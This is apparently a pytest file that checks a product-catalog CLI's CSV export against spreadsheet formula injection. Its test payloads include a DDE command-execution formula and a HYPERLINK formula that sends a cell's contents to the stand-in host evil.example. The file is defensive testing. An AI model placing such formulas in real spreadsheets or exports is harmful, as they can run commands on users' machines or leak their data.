"""Spreadsheets are safe (issue 27, requirement 5): `export --format csv` neutralises every cell a spreadsheet
would run as a formula (OWASP: = + - @ tab CR get a leading quote), and keeps numbers as numbers."""

from __future__ import annotations

import csv
import json

import pytest

from app.cli import main
from core.export import spreadsheet_safe
from tests.test_indexer import _make_products

ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "-2+3",
           "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_cells_get_a_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [-2.5, 3, 0.0, True, None, "-2.5", "+3", "1e-3", "-.5", "plain", "a=b", "",
                                   "[12.0, 3.5]", "shirt - blue"])
def test_numbers_and_harmless_text_stay_raw(value):
    assert spreadsheet_safe(value) == value


def test_cli_csv_export_neutralises_formulas_keeps_prices_numbers(tmp_path, tiny_model_settings, capsys):
    from core.settings import Settings

    cat = tmp_path / "cat"
    cat.mkdir()
    settings = Settings()
    settings.models = tiny_model_settings
    settings.save(cat / "settings.json")
    src = _make_products(tmp_path / "src", n=len(ATTACKS))
    folders = sorted(p for p in src.iterdir() if p.is_dir())
    for n, (folder, attack) in enumerate(zip(folders, ATTACKS, strict=True)):
        (folder / "product.json").write_text(json.dumps(
            {"sku": f"=SKU{n}()" if n == 0 else f"SKU-{n}", "title": attack, "category": attack,
             "price": 10 + n}))
    assert main(["index", str(src), "--catalog", str(cat), "--import-only", "--json"]) == 0
    from core.catalog import db
    from core.catalog.catalog import Catalog

    with Catalog.open(cat):  # a credit note's negative price (the importer takes only prices >= 0)
        db.Product.update(price=-2.5).where(db.Product.sku == "SKU-1").execute()
    capsys.readouterr()
    out = tmp_path / "products.csv"
    assert main(["export", "--catalog", str(cat), "--format", "csv", "--out", str(out)]) == 0
    with open(out, newline="", encoding="utf-8") as fh:  # read as a spreadsheet reads it
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(ATTACKS)
    for row in rows:
        for column, cell in row.items():
            runnable = cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert not runnable or column == "price", f"{column}: {cell!r} would run as a formula"
    titles = {row["title"] for row in rows}
    stored = {spreadsheet_safe(t) for t in titles}
    assert "'=cmd|' /C calc'!A0" in titles and "'-2+3" in titles and "'=1+1" in titles, titles
    assert stored == titles  # nothing quoted twice
    assert any(row["sku"] == "'=SKU0()" for row in rows)
    prices = sorted(float(row["price"]) for row in rows)  # still numbers a spreadsheet sums
    assert prices[0] == -2.5 and any(row["price"] == "-2.5" for row in rows)
